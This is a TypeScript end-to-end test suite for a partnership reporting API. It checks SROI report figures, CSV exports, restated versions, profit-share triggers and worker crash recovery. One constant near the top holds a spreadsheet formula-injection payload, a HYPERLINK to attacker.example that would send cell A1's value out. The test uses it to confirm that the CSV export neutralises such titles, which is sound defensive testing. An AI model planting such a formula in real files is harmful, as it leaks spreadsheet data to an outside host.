import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { JobName, QueueName, bullConnection } from '@ol/jobs';
import { PrismaService } from '@ol/persistence';
import { Queue } from 'bullmq';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createUserWithKey, grantRole } from '../factories';
import {
  buildOnce,
  waitFor,
  type RunningProcess,
  startWorkerProcess,
} from '../setup/child-process';
import { expectValid, strictValidator } from '../setup/openapi-schema';
import { createTestApp, truncateAll } from '../setup/test-app';

const WELL_TITLE = '=HYPERLINK("https://attacker.example/?q="&A1,"Wellbeing score")';
const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;

/** The board-pack CSV's sections: each a section row, a header row, then its rows. */
function csvSections(text: string): Map<string, { columns: string[]; rows: string[][] }> {
  const rows: string[][] = parse(text, {});
  const sections = new Map<string, { columns: string[]; rows: string[][] }>();
  rows.forEach((row, i) => {
    if (row[0] === 'section') sections.set(row[1], { columns: rows[i + 1].slice(1), rows: [] });
    else if (rows[i - 1]?.[0] !== 'section') sections.get(row[0])!.rows.push(row.slice(1));
  });
  return sections;
}

/**
 * Reports and the open book end to end: the API (in process) writes runs; real worker processes
 * (children) produce reports and evaluations against the same PostgreSQL and Redis.
 */
describe('reports and profit-share triggers (API + worker processes, real PostgreSQL and Redis)', () => {
  let app: NestFastifyApplication;
  let prisma: PrismaService;
  let http: ReturnType<typeof request>;
  let board: Awaited<ReturnType<typeof createUserWithKey>>;
  let finance: Awaited<ReturnType<typeof createUserWithKey>>;
  /** A second finance user: settles what the first acknowledged, reviews what the first submitted. */
  let finance2: Awaited<ReturnType<typeof createUserWithKey>>;
  let provider: Awaited<ReturnType<typeof createUserWithKey>>;
  let pid: string;
  let orgId: string;
  let jobsOutcome: string;
  let wellOutcome: string;
  const workers: RunningProcess[] = [];
  /** Each response checked against the served OpenAPI document, every object closed. */
  let matchesDocument: (schema: string, body: unknown) => void;
  const startWorker = async (env: Record<string, string> = {}) => {
    const w = await startWorkerProcess({
      RECONCILE_INTERVAL_SECONDS: '1',
      LOG_LEVEL: 'warn',
      ...env,
    });
    workers.push(w);
    return w;
  };
  const base = () => `/v1/partnerships/${pid}`;
  const waitForJob = (runId: string, headers: Record<string, string>, timeoutMs = 30_000) =>
    waitFor(
      async () => {
        const res = await http.get(`${base()}/jobs/${runId}`).set(headers);
        return res.body.status === 'done' || res.body.status === 'failed' ? res.body : undefined;
      },
      timeoutMs,
      `job ${runId}`,
    );

  beforeAll(async () => {
    buildOnce();
    // Long enough that a burst of three single records lands inside it on a busy machine.
    app = await createTestApp({ REPORT_DEBOUNCE_MS: '2000' });
    prisma = app.get(PrismaService);
    await truncateAll(prisma);
    http = request(app.getHttpServer());
    const doc = (await http.get('/docs-json').expect(200)).body;
    const validators = new Map<string, ReturnType<typeof strictValidator>>();
    matchesDocument = (schema, body) => {
      if (!validators.has(schema)) validators.set(schema, strictValidator(doc, schema));
      expectValid(validators.get(schema)!, body, schema);
    };
    const admin = await createUserWithKey(prisma, { admin: true });
    board = await createUserWithKey(prisma);
    finance = await createUserWithKey(prisma);
    finance2 = await createUserWithKey(prisma);
    provider = await createUserWithKey(prisma);
    const p = await prisma.partnership.create({
      data: {
        name: 'Reporting',
        model: 'alliance',
        status: 'active',
        startDate: new Date('2025-04-01T00:00:00Z'),
        endDate: new Date('2030-03-31T00:00:00Z'),
      },
    });
    pid = p.id;
    orgId = (await prisma.organisation.create({ data: { name: 'Acorn', kind: 'provider' } })).id;
    await prisma.member.create({
      data: { partnershipId: pid, organisationId: orgId, role: 'provider' },
    });
    await grantRole(prisma, pid, board.userId, 'board');
    await grantRole(prisma, pid, finance.userId, 'finance');
    await grantRole(prisma, pid, finance2.userId, 'finance');
    await grantRole(prisma, pid, provider.userId, 'provider', orgId);
    jobsOutcome = (
      await prisma.outcome.create({
        data: {
          partnershipId: pid,
          code: 'JOBS',
          theme: 'Jobs',
          title: 'People into work',
          unit: 'people',
        },
      })
    ).id;
    wellOutcome = (
      await prisma.outcome.create({
        data: {
          partnershipId: pid,
          code: 'WELL',
          theme: 'Health',
          // A title a spreadsheet would run as a formula: the board-pack CSV neutralises it.
          title: WELL_TITLE,
          unit: 'score',
          aggregation: 'mean',
        },
      })
    ).id;
    const proxy = await prisma.proxy.create({
      data: {
        code: 'EMP',
        name: 'Employment',
        unit: 'person',
        sourceCitation: 'Illustrative',
        licence: 'CC0-1.0',
      },
    });
    await prisma.proxyVersion.create({
      data: {
        proxyId: proxy.id,
        validFrom: new Date('2025-04-01T00:00:00Z'),
        valuePerUnit: '10000',
        priceYear: 2025,
        deadweight: '0.2',
        durationYears: 1,
      },
    });
    await prisma.outcomeValuation.create({
      data: { partnershipId: pid, outcomeId: jobsOutcome, proxyId: proxy.id },
    });
    await http
      .put(`${base()}/outcomes/${jobsOutcome}/targets`)
      .set(admin.headers)
      .send({ targets: [{ period: '2025-26 Q1', value: '10' }] })
      .expect(200);
    await http
      .put(`${base()}/outcomes/${wellOutcome}/targets`)
      .set(admin.headers)
      .send({ targets: [{ period: '2025-26 Q1', value: '7' }] })
      .expect(200);
    const records = [
      { outcomeId: jobsOutcome, activityDate: '2025-05-01', quantity: '6', externalRef: 'j1' },
      { outcomeId: jobsOutcome, activityDate: '2025-06-30', quantity: '4', externalRef: 'j2' },
      { outcomeId: wellOutcome, activityDate: '2025-05-02', quantity: '6', externalRef: 'w1' },
      { outcomeId: wellOutcome, activityDate: '2025-06-02', quantity: '8', externalRef: 'w2' },
    ];
    await http
      .post(`${base()}/delivery-records/batch`)
      .set(provider.headers)
      .send({ records })
      .expect(201);
    const submitted = await http
      .post(`${base()}/financial-returns`)
      .set(provider.headers)
      .send({
        period: '2025-26 Q1',
        revenue: '60000.00',
        costs: [
          { category: 'direct', amount: '40000.00' },
          { category: 'overhead', amount: '5000.00', allowable: false },
        ],
      })
      .expect(201);
    // Only accepted returns count (in reports' investment and in evaluations).
    await http
      .post(`${base()}/financial-returns/${submitted.body.id}/decision`)
      .set(finance.headers)
      .send({ decision: 'accepted' })
      .expect(200);
    await startWorker({ REPORT_DEBOUNCE_MS: '2000' });
  }, 60_000);

  afterAll(async () => {
    if (process.env.TEST_LOGS) for (const w of workers) console.log(w.output().slice(-5000));
    for (const w of workers) if (w.child.exitCode === null) w.child.kill('SIGKILL');
    await Promise.all(workers.map((w) => w.exited));
    await app.close();
  });

  let firstReportId: string;

  it('produces a requested report: outcomes against targets with RAG, valuation, SROI totals', async () => {
    const res = await http
      .post(`${base()}/reports`)
      .set(board.headers)
      .send({ scope: 'quarter', quarter: '2025-26 Q1' })
      .expect(202);
    expect(res.body).toMatchObject({
      kind: 'report',
      params: { scope: 'quarter', quarter: '2025-26 Q1' },
    });
    const job = await waitForJob(res.body.id, board.headers);
    expect(job).toMatchObject({ status: 'done', progress: 100 });
    matchesDocument('JobRunResponse', job);
    firstReportId = job.resultId;
    const report = await http
      .get(`${base()}/reports/${firstReportId}`)
      .set(board.headers)
      .expect(200);
    matchesDocument('ReportResponse', report.body);
    expect(report.body).toMatchObject({
      scope: 'quarter',
      period: '2025-26 Q1',
      periodStart: '2025-04-01',
      periodEnd: '2025-06-30',
      version: 1,
      restates: null,
    });
    const f = report.body.figures;
    const jobs = f.outcomes.find((o: { code: string }) => o.code === 'JOBS');
    const well = f.outcomes.find((o: { code: string }) => o.code === 'WELL');
    expect(jobs).toMatchObject({
      actual: '10',
      target: '10',
      rag: 'green',
      procurementRating: 'good',
      monetised: true,
    });
    // 10 people × £10,000 × (1 − 0.2) = £80,000 in year 1, discounted once at 3.5%: 80,000 / 1.035 = 77,294.69
    expect(jobs.presentValue).toBe('77294.69');
    expect(well).toMatchObject({
      actual: '7',
      target: '7',
      rag: 'green',
      monetised: false,
      presentValue: null,
    });
    expect(f.notMonetised).toEqual([
      expect.objectContaining({ outcomeId: wellOutcome, quantity: '7' }),
    ]);
    // Investment: the open book's allowable cost (the £5,000 overhead is not allowable).
    expect(f.totals).toMatchObject({
      presentValue: '77294.69',
      investment: '40000.00',
      netPresentValue: '37294.69',
      sroiRatio: '1.93',
    });
    // Sensitivity: deadweight 0.2 → 0.3 gives
    // 100,000 × 0.7 / 1.035 = 67,632.85, ratio 1.69; 1:1 at deadweight 0.586 (+0.386).
    expect(f.sensitivity.results).toHaveLength(12);
    expect(f.sensitivity.results[0]).toMatchObject({
      parameter: 'deadweight',
      change: '0.1',
      presentValue: '67632.85',
      ratio: '1.69',
      breakEven: { reachable: true, change: '0.386' },
    });
    expect(f.discount.convention).toBe('end-of-year');
    // Each number explains itself: a valuation line its own working, the report its totals'.
    const jobsLine = f.valuationLines.find(
      (l: { outcomeId: string }) => l.outcomeId === jobs.outcomeId,
    );
    expect(jobsLine.explanation.map((s: { code: string }) => s.code)).toEqual(
      expect.arrayContaining(['gross', 'deduction.deadweight', 'present-value']),
    );
    expect(f.explanation.map((s: { code: string }) => s.code)).toEqual([
      'total-present-value',
      'net-present-value',
      'sroi-ratio',
      'payback',
      'payback-alternative',
      'not-monetised-total',
    ]);
    expect(f.explanation[2].text).toContain('SROI ratio = 77294.69 ÷ 40000.00 = 1.93:1');
  });

  it('gives the same numbers in the CSV as in the JSON, by section, with the working', async () => {
    const csv = await http
      .get(`${base()}/reports/${firstReportId}.csv`)
      .set(board.headers)
      .expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toBe(
      'attachment; filename="report-2025-26_Q1-v1.csv"',
    );
    const sections = csvSections(csv.text);
    const json = await http
      .get(`${base()}/reports/${firstReportId}`)
      .set(board.headers)
      .expect(200);
    const f = json.body.figures;
    expect([...sections.keys()]).toEqual([
      'report',
      'warnings',
      'outcomes',
      'verification',
      'valuation_lines',
      'valuation_years',
      'totals',
      'breakdowns',
      'not_monetised',
      'not_uprated',
      'missing_data',
      'sensitivity',
      'sensitivity_grid',
      'trend',
      'working',
    ]);
    /** The first row of a section whose `column` (the first by default) holds `value`. */
    const record = (id: string, value: string, column?: string) => {
      const s = sections.get(id)!;
      const at = column ? s.columns.indexOf(column) : 0;
      const row = s.rows.find((r) => r[at] === value)!;
      return Object.fromEntries(s.columns.map((c, i) => [c, row[i]]));
    };
    expect(record('report', 'period')).toMatchObject({ value: '2025-26 Q1' });
    expect(record('report', 'status')).toMatchObject({ value: 'final' });
    expect(record('report', 'method')).toMatchObject({ value: String(f.method) });
    expect(record('report', 'payback_method')).toMatchObject({ value: f.totals.paybackMethod });
    expect(record('report', 'report_price_year')).toMatchObject({
      value: String(f.prices.reportPriceYear),
    });
    expect(record('outcomes', 'JOBS')).toMatchObject({
      title: 'People into work',
      actual: '10',
      target: '10',
      progress: '1.0000',
      rag: 'green',
      procurement_rating: 'good',
      present_value: '77294.69',
    });
    // The mean of 6 and 8, a score at 2 places; its formula-like title is shown, never run.
    expect(record('outcomes', 'WELL')).toMatchObject({ title: `'${WELL_TITLE}`, actual: '7.00' });
    const jobsLine = record('valuation_lines', 'JOBS', 'code');
    expect(jobsLine).toMatchObject({
      basis: 'achieved',
      quantity: '10',
      value_per_unit: '10000.0000',
      gross: '100000.00',
      deadweight_rate: '0.2000',
      deadweight_amount: '20000.00',
      impact: '80000.00',
      present_value: '77294.69',
    });
    expect(record('valuation_years', jobsLine.line)).toMatchObject({
      code: 'JOBS',
      year: '1',
      discount_factor: '0.966184',
      present_value: '77294.69',
    });
    expect(record('totals', 'sroi_ratio')).toMatchObject({ value: '1.93' });
    expect(record('totals', 'sroi_ratio_n_to_1')).toMatchObject({ value: '1.93:1' });
    expect(record('totals', 'payback_alternative_method')).toMatchObject({
      value: f.totals.paybackAlternative.method,
    });
    expect(record('breakdowns', 'stakeholder')).toMatchObject({
      group: expect.any(String),
      ratio_n_to_1: expect.stringMatching(/:1$/),
    });
    expect(record('valuation_lines', 'JOBS', 'code')).toMatchObject({
      report_price_year: String(f.prices.reportPriceYear),
      uprating_factor: expect.stringMatching(/^\d+\.\d{6}$/),
    });
    expect(record('totals', 'investment_basis')).toMatchObject({
      value: 'open-book allowable cost of returns in the period',
    });
    expect(record('sensitivity', 'deadweight', 'parameter')).toMatchObject({
      source: 'standard',
      change: '0.1',
      present_value: '67632.85',
      ratio: '1.69',
      break_even_change: '0.386',
    });
    expect(sections.get('trend')!.rows.some((r) => r[0] === 'JOBS')).toBe(true);
    const working = sections.get('working')!.rows.map((r) => r.join(' | '));
    expect(working).toContainEqual(
      expect.stringMatching(
        /^valuation line \| JOBS \| \d+ \| input \| Outcome JOBS \(People into work\)/,
      ),
    );
    expect(working).toContainEqual(expect.stringContaining('Not monetised: WELL 7 score'));
    // Outcomes, the partnership and the report are named by code and period, never by id.
    expect(csv.text).not.toContain(jobsOutcome);
    expect(csv.text).not.toContain(wellOutcome);
    expect(csv.text).not.toMatch(UUID);
  });

  it('makes no new version when the inputs are the same', async () => {
    const res = await http
      .post(`${base()}/reports`)
      .set(board.headers)
      .send({ scope: 'quarter', quarter: '2025-26 Q1' })
      .expect(202);
    const job = await waitForJob(res.body.id, board.headers);
    expect(job.resultId).toBe(firstReportId);
    const list = await http
      .get(`${base()}/reports?scope=quarter&period=2025-26%20Q1`)
      .set(board.headers)
      .expect(200);
    expect(list.body.data).toHaveLength(1);
    matchesDocument('ReportList', list.body);
  });

  it('restates after late data for a closed quarter: one debounced recompute, a new version saying what changed', async () => {
    const since = new Date();
    const late = [1, 2, 3].map((i) => ({
      outcomeId: jobsOutcome,
      activityDate: '2025-06-15',
      quantity: '1',
      externalRef: `late-${i}`,
    }));
    for (const r of late)
      await http.post(`${base()}/delivery-records`).set(provider.headers).send(r).expect(201);
    const v2 = await waitFor(
      async () => {
        const list = await http
          .get(`${base()}/reports?scope=quarter&period=2025-26%20Q1`)
          .set(board.headers)
          .expect(200);
        return list.body.data.find((r: { version: number }) => r.version === 2);
      },
      30_000,
      'restated version',
    );
    expect(v2.restates).toBe(firstReportId);
    matchesDocument('ReportSummary', v2);
    const full = await http.get(`${base()}/reports/${v2.id}`).set(board.headers).expect(200);
    matchesDocument('ReportResponse', full.body);
    expect(full.body.changes).toMatchObject({ previousStatus: 'final', restatement: true });
    expect(v2.changes.differences).toEqual(
      expect.arrayContaining([
        { field: 'outcomes[JOBS].actual', from: '10', to: '13' },
        { field: 'totals.presentValue', from: '77294.69', to: '100483.09' },
      ]),
    );
    // Three records in a burst made one run for the quarter report, not three.
    const runs = await prisma.jobRun.findMany({
      where: {
        partnershipId: pid,
        kind: 'report',
        dedupeKey: 'quarter:2025-26 Q1',
        createdAt: { gte: since },
      },
    });
    expect(runs).toHaveLength(1);
    await expect(prisma.$executeRaw`UPDATE reports SET version = 9`).rejects.toThrow(/immutable/);
  });

  it('recomputes once after a bulk import into a closed quarter (debounced), however many rows', async () => {
    const since = new Date();
    const rows = Array.from(
      { length: 500 },
      (_, i) => `JOBS,2025-10-${String((i % 28) + 1).padStart(2, '0')},1,bulk-${i}`,
    );
    const csv = ['outcome_code,activity_date,quantity,external_ref', ...rows].join('\n');
    const upload = await http
      .post(`${base()}/delivery-imports?providerOrganisationId=${orgId}`)
      .set(provider.headers)
      .set('content-type', 'text/csv')
      .send(csv)
      .expect(202);
    const report = await waitFor(
      async () => {
        const list = await http
          .get(`${base()}/reports?scope=quarter&period=2025-26%20Q3`)
          .set(board.headers)
          .expect(200);
        return list.body.data[0];
      },
      30_000,
      'report after import',
    );
    const full = await http.get(`${base()}/reports/${report.id}`).set(board.headers).expect(200);
    expect(full.body.figures.outcomes.find((o: { code: string }) => o.code === 'JOBS').actual).toBe(
      '500',
    );
    const runs = await prisma.jobRun.findMany({
      where: { partnershipId: pid, kind: 'report', createdAt: { gte: since } },
    });
    expect(runs.map((r) => r.dedupeKey).sort()).toEqual([
      'quarter:2025-26 Q3',
      'year_to_date:2025-26 Q3',
    ]);
    expect(upload.body.id).toEqual(expect.any(String));
  });

  it('writes the report.issued outbox row of each new version with it, and none when nothing changed', async () => {
    // A receiver nobody listens on: deliveries fail and back off; this test looks at the outbox.
    const webhook = await prisma.webhook.create({
      data: {
        partnershipId: pid,
        url: 'http://127.0.0.1:9/reports',
        secret: 'report-outbox-test',
        eventTypes: ['report.issued'],
      },
    });
    try {
      const request = () =>
        http
          .post(`${base()}/reports`)
          .set(board.headers)
          .send({ scope: 'year_to_date', quarter: '2025-26 Q2' })
          .expect(202);
      // Other reports of the partnership may be refreshed meanwhile: look at this one's rows.
      const rowsOfThisReport = async () =>
        (
          await prisma.notification.findMany({
            where: { partnershipId: pid, webhookId: webhook.id },
          })
        ).filter((n) => (n.payload as { period?: string }).period === '2025-26 to Q2');
      const first = await waitForJob((await request()).body.id, board.headers);
      const rows = await rowsOfThisReport();
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        eventType: 'report.issued',
        eventKey: `report:${first.resultId}`,
        payload: { reportId: first.resultId, scope: 'year_to_date', version: 1 },
      });
      // The same inputs again: the same version, no new outbox row.
      const again = await waitForJob((await request()).body.id, board.headers);
      expect(again.resultId).toBe(first.resultId);
      expect(await rowsOfThisReport()).toHaveLength(1);
    } finally {
      await prisma.notification.deleteMany({
        where: { partnershipId: pid, webhookId: webhook.id },
      });
      await prisma.webhook.update({
        where: { partnershipId_id: { partnershipId: pid, id: webhook.id } },
        data: { active: false },
      });
    }
  });

  it('produces scheduled quarter-end reports through the job scheduler', async () => {
    const queue = new Queue(QueueName.System, {
      connection: bullConnection(process.env.REDIS_URL!),
      prefix: process.env.QUEUE_PREFIX!,
    });
    const schedulers = await queue.getJobSchedulers();
    expect(schedulers.map((s) => s.key)).toEqual(
      expect.arrayContaining(['quarter-reports-fy-4', 'reconcile-runs']),
    );
    const april = schedulers.find((s) => s.key === 'quarter-reports-fy-4');
    expect(april?.pattern).toBe('0 2 1 1,4,7,10 *');
    // Fire the same job the scheduler fires at the quarter end.
    await queue.add(JobName.ScheduleQuarterReports, { fyStartMonth: 4 });
    await queue.close();
    const reports = await waitFor(
      async () => {
        const list = await http.get(`${base()}/reports?limit=100`).set(board.headers).expect(200);
        const wanted = ['2026-27 Q2', '2026-27 to Q2', 'since start to 2026-27 Q2'];
        const found = list.body.data.filter((r: { period: string }) => wanted.includes(r.period));
        return found.length === 3 ? list.body.data : undefined;
      },
      30_000,
      'scheduled reports',
    );
    expect(reports.map((r: { period: string }) => r.period)).toEqual(
      expect.arrayContaining(['2026-27 Q2', '2026-27 to Q2', 'since start to 2026-27 Q2']),
    );
  });

  describe('open book and profit share', () => {
    it('raises exactly one trigger when a return crosses the threshold, even if the evaluation runs twice', async () => {
      // A receiver nobody listens on: this test reads the outbox row the webhook would carry.
      const webhook = await prisma.webhook.create({
        data: {
          partnershipId: pid,
          url: 'http://127.0.0.1:9/triggers',
          secret: 'trigger-outbox-test',
          eventTypes: ['trigger.raised'],
        },
      });
      const rule = await http
        .post(`${base()}/share-rules`)
        .set(finance.headers)
        .send({
          name: 'Margin share',
          basis: 'cost',
          reasonableRate: '0.05',
          warningLevel: '0.8',
          bands: [
            { upTo: '0.05', provider: '0.5', commissioner: '0.5' },
            { provider: '0', commissioner: '1' },
          ],
        })
        .expect(201);
      // The three-party shorthand is stored as contract terms with the same meaning.
      expect(rule.body).toMatchObject({
        kind: 'reasonable_surplus',
        terms: {
          reasonableSurplus: { basis: 'cost', rate: '0.05' },
          earlyWarningLevel: '0.8',
          bandEdges: 'margin_points',
        },
      });
      // Q1 return already there: revenue 60,000, allowable cost 40,000 → surplus 20,000; reasonable 5% × 40,000 = 2,000;
      // excess 18,000: first 5 points (2,000) shared 50/50, the remaining 16,000 returned → provider 1,000, commissioner 17,000.
      const trigger = await waitFor(
        async () => {
          const t = await http.get(`${base()}/triggers`).set(finance.headers).expect(200);
          return t.body.data.length ? t.body.data : undefined;
        },
        30_000,
        'trigger',
      );
      expect(trigger).toHaveLength(1);
      expect(trigger[0]).toMatchObject({
        toState: 'above',
        fromState: 'below',
        crossingNo: 1,
        reason: 'crossing',
        variation: '18000.00',
        gain: '18000.00',
        pain: null,
        adjustments: [
          expect.objectContaining({
            partyId: 'provider',
            organisationId: orgId,
            entitlement: '1000.00',
            raisedBefore: '0.00',
            amount: '1000.00',
          }),
          expect.objectContaining({
            partyId: 'commissioner',
            organisationId: null,
            entitlement: '17000.00',
            raisedBefore: '0.00',
            amount: '17000.00',
          }),
        ],
        status: 'open',
      });

      // The same evaluation twice more, at once (as a redelivered job would): no second trigger.
      const run = await prisma.jobRun.findFirstOrThrow({
        where: { partnershipId: pid, kind: 'share_evaluation' },
      });
      const queue = new Queue(QueueName.Finance, {
        connection: bullConnection(process.env.REDIS_URL!),
        prefix: process.env.QUEUE_PREFIX!,
      });
      const again = await Promise.all(
        [1, 2].map((i) =>
          prisma.jobRun.create({
            data: {
              partnershipId: pid,
              kind: 'share_evaluation',
              dedupeKey: `again-${i}`,
              params: run.params ?? {},
            },
          }),
        ),
      );
      await Promise.all(
        again.map((r) =>
          queue.add(
            JobName.EvaluateShare,
            { partnershipId: pid, runId: r.id },
            { jobId: `run-${r.id}` },
          ),
        ),
      );
      await queue.close();
      await waitFor(
        async () =>
          (await prisma.jobRun.count({
            where: { id: { in: again.map((r) => r.id) }, status: 'done' },
          })) === 2
            ? true
            : undefined,
        30_000,
        'evaluations again',
      );
      expect(await prisma.shareTrigger.count({ where: { partnershipId: pid } })).toBe(1);
      expect(await prisma.shareEvaluation.count({ where: { partnershipId: pid } })).toBe(1);

      // One vocabulary: the webhook carries the trigger in the API's words and shapes.
      const [event] = await prisma.notification.findMany({
        where: { partnershipId: pid, webhookId: webhook.id },
      });
      const { triggerId, ...payload } = event.payload as Record<string, unknown>;
      expect(triggerId).toBe(trigger[0].id);
      const { id: _id, ...api } = trigger[0] as Record<string, unknown>;
      expect(api).toMatchObject(payload);
      expect(payload).toMatchObject({ fromState: 'below', toState: 'above', crossingNo: 1 });
      await prisma.notification.deleteMany({ where: { webhookId: webhook.id } });
      await prisma.webhook.delete({
        where: { partnershipId_id: { partnershipId: pid, id: webhook.id } },
      });
    });

    it('lets finance acknowledge and another finance user settle a trigger with notes; the board may only read', async () => {
      const [t] = (await http.get(`${base()}/triggers?status=open`).set(board.headers).expect(200))
        .body.data;
      await http
        .post(`${base()}/triggers/${t.id}/acknowledge`)
        .set(board.headers)
        .send({ note: 'x' })
        .expect(403);
      const ack = await http
        .post(`${base()}/triggers/${t.id}/acknowledge`)
        .set(finance.headers)
        .send({ note: 'Seen; invoice to follow' })
        .expect(200);
      expect(ack.body).toMatchObject({
        status: 'acknowledged',
        acknowledgedBy: finance.userId,
        acknowledgeNote: 'Seen; invoice to follow',
      });
      await http
        .post(`${base()}/triggers/${t.id}/acknowledge`)
        .set(finance.headers)
        .send({ note: 'again' })
        .expect(409);
      // Separation of duties: the acknowledger does not settle.
      const same = await http
        .post(`${base()}/triggers/${t.id}/settle`)
        .set(finance.headers)
        .send({ note: 'Paid 2026-07-01' })
        .expect(403);
      expect(same.body.type).toBe('/problems/separation-of-duties');
      const settled = await http
        .post(`${base()}/triggers/${t.id}/settle`)
        .set(finance2.headers)
        .send({ note: 'Paid 2026-07-01' })
        .expect(200);
      expect(settled.body).toMatchObject({ status: 'settled', settledBy: finance2.userId });
    });

    it('keeps restatements; a restatement that lowers the position raises a clawback of the difference only', async () => {
      // Restated Q1 with higher cost: surplus 60,000 − 58,000 = 2,000 < reasonable 2,900 → warning (2,000 ≥ 80% × 2,900 = 2,320? no) → below.
      // Submitted by finance for the provider, it counts once another finance user accepts it.
      const restated = await http
        .post(`${base()}/financial-returns`)
        .set(finance.headers)
        .send({
          providerOrganisationId: orgId,
          period: '2025-26 Q1',
          revenue: '60000.00',
          costs: [{ category: 'direct', amount: '58000.00' }],
        })
        .expect(201);
      await http
        .post(`${base()}/financial-returns/${restated.body.id}/decision`)
        .set(finance2.headers)
        .send({ decision: 'accepted' })
        .expect(200);
      await waitFor(
        async () =>
          (await prisma.shareEvaluation.count({ where: { partnershipId: pid } })) === 2
            ? true
            : undefined,
        30_000,
        'second evaluation',
      );
      const all = await http
        .get(`${base()}/financial-returns?allRevisions=true`)
        .set(finance.headers)
        .expect(200);
      expect(all.body.data.map((r: { revision: number }) => r.revision).sort()).toEqual([1, 2]);
      const current = await http
        .get(`${base()}/financial-returns`)
        .set(finance.headers)
        .expect(200);
      expect(current.body.data).toEqual([
        expect.objectContaining({ revision: 2, allowableCost: '58000.00' }),
      ]);
      const evaluations = await http
        .get(`${base()}/share-evaluations`)
        .set(finance.headers)
        .expect(200);
      expect(evaluations.body.data[0]).toMatchObject({
        state: 'below',
        gain: '0.00',
        variation: '-900.00',
      });
      matchesDocument('ShareEvaluationList', evaluations.body);
      // No new crossing, but the entitlements fell to 0: an adjustment trigger takes back what was
      // settled (1,000 retained by the provider, 17,000 paid to the commissioner), and no more.
      const triggers = await http.get(`${base()}/triggers`).set(finance.headers).expect(200);
      expect(triggers.body.data).toHaveLength(2);
      expect(triggers.body.data[0]).toMatchObject({
        reason: 'adjustment',
        fromState: 'above',
        toState: 'below',
        crossingNo: 2,
        status: 'open',
        adjustments: [
          expect.objectContaining({ partyId: 'provider', amount: '-1000.00' }),
          expect.objectContaining({ partyId: 'commissioner', amount: '-17000.00' }),
        ],
      });
      const ledger = await http.get(`${base()}/share-ledger`).set(finance.headers).expect(200);
      matchesDocument('ShareLedgerList', ledger.body);
      expect(ledger.body.data[0].lines).toEqual([
        expect.objectContaining({
          partyId: 'provider',
          entitlement: '0.00',
          settled: '1000.00',
          outstanding: '-1000.00',
        }),
        expect.objectContaining({
          partyId: 'commissioner',
          entitlement: '0.00',
          settled: '17000.00',
          outstanding: '-17000.00',
        }),
      ]);
    });
  });

  describe('crash safety', () => {
    it('retries a report whose worker is killed mid-job (SIGKILL) and ends with exactly one version', async () => {
      for (const w of workers) w.child.kill('SIGKILL');
      await Promise.all(workers.map((w) => w.exited));
      const victim = await startWorker({ REPORT_HOLD_MS: '4000' });
      const res = await http
        .post(`${base()}/reports`)
        .set(board.headers)
        .send({ scope: 'since_start', quarter: '2025-26 Q2' })
        .expect(202);
      await waitFor(
        async () =>
          (await prisma.jobRun.findFirst({ where: { id: res.body.id, status: 'running' } }))
            ? true
            : undefined,
        20_000,
        'run started',
      );
      victim.child.kill('SIGKILL');
      await victim.exited;
      expect(
        await prisma.report.count({
          where: {
            partnershipId: pid,
            scope: 'since_start',
            periodLabel: 'since start to 2025-26 Q2',
          },
        }),
      ).toBe(0);
      await startWorker();
      const job = await waitForJob(res.body.id, board.headers, 75_000);
      expect(job.status).toBe('done');
      expect(job.attempts).toBeGreaterThanOrEqual(2);
      expect(
        await prisma.report.count({
          where: {
            partnershipId: pid,
            scope: 'since_start',
            periodLabel: 'since start to 2025-26 Q2',
          },
        }),
      ).toBe(1);
    }, 90_000);

    it('has two workers produce many reports with no duplicates', async () => {
      await startWorker();
      const quarters = ['2025-26 Q1', '2025-26 Q2', '2025-26 Q3', '2025-26 Q4'];
      const runs = [];
      for (const quarter of quarters) {
        for (const scope of ['quarter', 'year_to_date', 'since_start'] as const) {
          runs.push(
            (
              await http
                .post(`${base()}/reports`)
                .set(board.headers)
                .send({ scope, quarter })
                .expect(202)
            ).body.id,
          );
        }
      }
      for (const id of runs) await waitForJob(id, board.headers);
      const versions = await prisma.report.groupBy({
        by: ['scope', 'periodStart', 'periodEnd', 'version'],
        where: { partnershipId: pid },
        _count: true,
      });
      expect(versions.every((v) => v._count === 1)).toBe(true);
      const fingerprints = await prisma.report.groupBy({
        by: ['scope', 'periodStart', 'periodEnd', 'fingerprint'],
        where: { partnershipId: pid },
        _count: true,
      });
      expect(fingerprints.every((v) => v._count === 1)).toBe(true);
    }, 90_000);
  });
});
